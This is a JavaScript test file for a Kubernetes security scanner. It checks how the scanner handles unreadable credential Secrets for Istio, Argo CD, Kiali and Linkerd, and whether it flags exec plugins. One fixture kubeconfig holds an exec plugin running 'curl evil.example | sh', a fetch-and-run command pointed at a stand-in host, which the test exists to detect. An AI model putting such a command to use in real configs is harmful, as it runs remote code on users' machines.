import { test } from 'node:test';
import assert from 'node:assert/strict';
import { scanYaml } from '../testing/kit.js';
import { allRules } from '../rules/index.js';
import { credentialProblems } from './credentials.js';
const b64 = (s) => Buffer.from(s).toString('base64');
/** An exec plugin (two critical KCF findings when read) hidden behind one custom tag further down. */
const TAGGED_KUBECONFIG = `apiVersion: v1
kind: Config
clusters:
- name: east
  cluster: {server: https://east.example:6443}
users:
- name: east
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh
      args: ["-c", "curl evil.example | sh"]
    token: !CANARY-TAG-Pa55 hunter2
contexts:
- name: east
  context: {cluster: east, user: east}
current-context: east
`;
const CLEAN_KUBECONFIG = TAGGED_KUBECONFIG.replace('    token: !CANARY-TAG-Pa55 hunter2\n', '');
function remoteSecret(kubeconfig, extraData = '') {
    return `apiVersion: v1
kind: Secret
metadata:
  name: istio-remote-secret-east
  namespace: istio-system
  labels: {istio/multiCluster: "true"}
data:
  east: ${b64(kubeconfig)}
${extraData}`;
}
test('a remote secret whose kubeconfig does not parse is an error naming the Secret, key, file and line', async () => {
    const res = await scanYaml(remoteSecret(TAGGED_KUBECONFIG), { rules: allRules });
    assert.equal(res.errors.length, 1, JSON.stringify(res.errors));
    const e = res.errors[0];
    assert.equal(e.file, 'test.yaml');
    assert.equal(e.line, 8, 'points at the data key holding the kubeconfig');
    assert.match(e.message, /Secret istio-system\/istio-remote-secret-east data\.east: the credential istiod reads could not be read \(line 13 of the kubeconfig\): invalid YAML: unknown tag/);
    assert.match(e.message, /not checked; fix or remove it/);
    assert.doesNotMatch(JSON.stringify(res), /CANARY-TAG|hunter2/, 'neither the tag text nor the value reaches the result');
});
test('the same kubeconfig without the tag parses: no error, and its exec plugin is found', async () => {
    const res = await scanYaml(remoteSecret(CLEAN_KUBECONFIG), { rules: allRules });
    assert.deepEqual(res.errors, []);
    assert.ok(res.findings.some((f) => f.severity === 'critical' && f.resource.name === 'istio-remote-secret-east'), 'the exec plugin is a critical finding');
});
test('Argo CD, Kiali and Linkerd credential Secrets: unreadable values are errors too', async () => {
    const yaml = `apiVersion: v1
kind: Secret
metadata:
  name: argo-east
  namespace: argocd
  labels: {argocd.argoproj.io/secret-type: cluster}
stringData:
  name: east
  server: https://east.example:6443
  config: '{"execProviderConfig": {"command": "/bin/sh"}, CANARY-JSON'
---
apiVersion: v1
kind: Secret
metadata:
  name: kiali-east
  namespace: kiali
  labels: {kiali.io/multiCluster: "true"}
data:
  east: [not, a, string]
---
apiVersion: v1
kind: Secret
metadata:
  name: cluster-credentials-east
  namespace: linkerd-multicluster
type: mirror.linkerd.io/remote-kubeconfig
stringData:
  kubeconfig: "users: *CANARY-ALIAS"
`;
    const res = await scanYaml(yaml, { rules: [] });
    const messages = res.errors.map((e) => e.message).sort();
    assert.equal(messages.length, 3, messages.join('\n'));
    assert.match(messages[0], /^Secret argocd\/argo-east stringData\.config: .*Argo CD reads .*Argo CD's cluster config is not valid JSON at line 1, column \d+/);
    assert.match(messages[1], /^Secret kiali\/kiali-east data\.east: .*Kiali reads .*the value is a list, not a string/);
    assert.match(messages[2], /^Secret linkerd-multicluster\/cluster-credentials-east stringData\.kubeconfig: .*Linkerd service mirror .*invalid YAML: undefined alias/);
    assert.doesNotMatch(JSON.stringify(res.errors), /CANARY/);
});
test('a Secret that carries no credentials is never an error; problems are computed once per model', async () => {
    const res = await scanYaml(`apiVersion: v1\nkind: Secret\nmetadata: {name: plain, namespace: a}\ndata: {x: [1]}\n`, { rules: [] });
    assert.deepEqual(res.errors, []);
    assert.equal(credentialProblems(res.model), credentialProblems(res.model));
});
